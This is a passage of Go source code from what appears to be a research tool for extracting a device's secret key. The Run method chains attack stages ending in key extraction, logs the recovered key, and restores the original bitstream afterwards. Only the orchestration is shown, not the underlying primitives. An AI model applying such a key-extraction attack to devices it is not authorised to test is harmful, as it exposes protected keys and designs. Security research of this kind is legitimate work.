	a.log.Infof("key recovered and verified: %08x %08x %08x %08x", key[0], key[1], key[2], key[3])
	return nil
}

// Run executes the complete attack and returns the report. Whatever the
// outcome, the attack-model epilogue restores the original image so the
// device is returned to its legitimate user unchanged — even an aborted
// attack must not leave a faulty configuration behind.
func (a *Attack) Run() (rep *Report, err error) {
	span := a.tel.StartSpan("attack.run")
	defer func() {
		a.baseLive = false
		if restoreErr := a.dev.Load(a.dev.ReadFlash()); restoreErr != nil && err == nil {
			err = fmt.Errorf("core: restoring original bitstream: %w", restoreErr)
		}
		span.SetAttr("loads", a.rep.Loads)
		span.SetAttr("verified", a.rep.Verified)
		span.End()
		a.publishStats()
		rep = a.rep.Clone()
	}()
	if err = a.checkpoint(); err != nil {
		return rep, err
	}
	a.CountCandidates()
	if err = a.VerifyZPath(); err != nil {
		return rep, err
	}
	if err = a.checkpoint(); err != nil {
		return rep, err
	}
	if err = a.CollectFeedbackCandidates(); err != nil {
		return rep, err
	}
	beta, berr := a.MakeKeyIndependent()
	if berr != nil {
		return rep, berr
	}
	if err = a.checkpoint(); err != nil {
		return rep, err
	}
	if err = a.IdentifyVPairs(beta); err != nil {
		return rep, err
	}
	if err = a.ExtractKey(); err != nil {
		return rep, err
	}
	return rep, nil
}

// Report returns a defensive deep copy of the accumulated report
// (useful after partial runs): mutating the returned value, including
// its slices, cannot corrupt a subsequent Run.
func (a *Attack) Report() *Report { return a.rep.Clone() }
